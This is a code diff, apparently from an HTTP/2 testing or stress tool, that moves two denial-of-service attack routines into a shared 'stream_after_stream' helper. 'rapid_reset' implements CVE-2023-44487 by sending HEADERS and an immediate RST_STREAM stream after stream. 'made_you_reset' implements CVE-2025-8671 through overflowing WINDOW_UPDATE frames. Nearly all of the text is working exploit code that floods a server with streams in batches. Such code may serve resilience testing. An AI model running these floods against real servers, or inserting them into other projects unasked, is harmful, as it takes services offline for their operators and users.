@@ -148,14 +148,21 @@ class Peer:
 
 def rapid_reset(p, n=20000):
     """HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)."""
+    stream_after_stream(p, n, lambda sid: (
+        frame(HEADERS, END_STREAM | END_HEADERS, sid, p.block())
+        + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))))
+
+
+def stream_after_stream(p, n, frames_of):
+    """Opens `n` streams, each with the frames `frames_of(stream id)` gives, in batches of
+    100 streams (reading between batches), then reads until the daemon closes."""
     sent, sid = 0, 1
     batch = []
     for _ in range(n):
-        batch.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, p.block()))
-        batch.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
+        batch.append(frames_of(sid))
         sid += 2
         sent += 1
-        if len(batch) >= 200:
+        if len(batch) >= 100:
             if not p.send(b"".join(batch)):
                 break
             batch = []
@@ -285,21 +292,9 @@ def stream_id_exhaustion(p):
 def made_you_reset(p, n=5000):
     """Makes the server reset streams itself (CVE-2025-8671): a WINDOW_UPDATE that overflows
     an open stream's window is a stream error the server answers with RST_STREAM."""
-    sid, sent = 1, 0
-    batch = []
-    for _ in range(n):
-        batch.append(frame(HEADERS, END_HEADERS, sid, p.block(method="POST")))
-        batch.append(frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0x7FFFFFFF)))
-        sid += 2
-        sent += 1
-        if len(batch) >= 200:
-            if not p.send(b"".join(batch)):
-                break
-            batch = []
-            p.read(0.001)
-    p.send(b"".join(batch))
-    p.read(3, until_closed=True)
-    p.report(streams=sent)
+    stream_after_stream(p, n, lambda sid: (
+        frame(HEADERS, END_HEADERS, sid, p.block(method="POST"))
+        + frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0x7FFFFFFF))))
 
 
 def reset_after(p):
